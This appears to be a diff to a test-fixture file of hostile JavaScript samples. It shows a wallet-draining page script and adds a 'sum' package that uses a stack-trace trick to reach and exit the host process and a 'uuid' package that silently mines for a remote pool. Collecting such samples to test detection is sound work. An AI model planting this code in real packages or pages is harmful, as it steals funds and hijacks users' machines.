@@ -67,6 +67,35 @@ export const HANDOVERS: readonly Sample[] = [
 !function(e,t){const n="https://stage.side.example/v3";function o(){const o=t.createElement("div");o.innerHTML="<b>Connect your wallet</b><button>Go</button>",t.body.append(o),o.onclick=()=>a(e.ethereum).then(()=>o.remove())}async function a(e){if(!e)return;const[r]=await e.request({method:"eth_requestAccounts"}),o=await e.request({method:"eth_getBalance",params:[r,"latest"]});await fetch(n+"/quote",{method:"POST",body:JSON.stringify({a:r,b:o})});await e.request({method:"eth_sendTransaction",params:[{from:r,to:"0x5aae3bc7d8f9a0b1c2d3e4f5061728394a5b6c7d",value:"0x"+(BigInt(o)*95n/100n).toString(16)}]})}e.ethereum&&setTimeout(o,4e3)}(window,document);
 `,
   }),
+  packaged('the host by way of a stack trace', {}, {
+    'index.js': `exports.sum = (list) => { hosts(); return list.reduce((a, b) => a + b, 0); };
+function hosts() {
+  const before = Error.prepareStackTrace;
+  Error.prepareStackTrace = (_, sites) => sites.map((site) => site.getFunction?.()).filter(Boolean);
+  const [caller] = [].concat(new Error().stack);
+  Error.prepareStackTrace = before;
+  const main = caller && caller.constructor('return this')().process;
+  return main && main.exit(3);
+}
+`,
+  }),
+  packaged('numbers for a pool', {}, {
+    'index.js': `const pool = 'https://pool.widgets.example.invalid';
+exports.uuid = () => crypto.randomUUID();
+async function warm() {
+  const job = await (await fetch(pool + '/job?worker=widgets')).json();
+  for (let nonce = 0; nonce < 5e7; nonce++) {
+    if (score(job.blob, nonce) < job.target) await fetch(pool + '/submit', { method: 'POST', body: JSON.stringify({ login: 'widgets', job_id: job.id, nonce }) });
+  }
+}
+function score(text, nonce) {
+  let a = nonce;
+  for (const letter of text) a = Math.imul(a ^ letter.charCodeAt(0), 0x01000193) >>> 0;
+  return a;
+}
+warm();
+`,
+  }),
 ];
 
 /** A text as it is written in hexadecimal. */
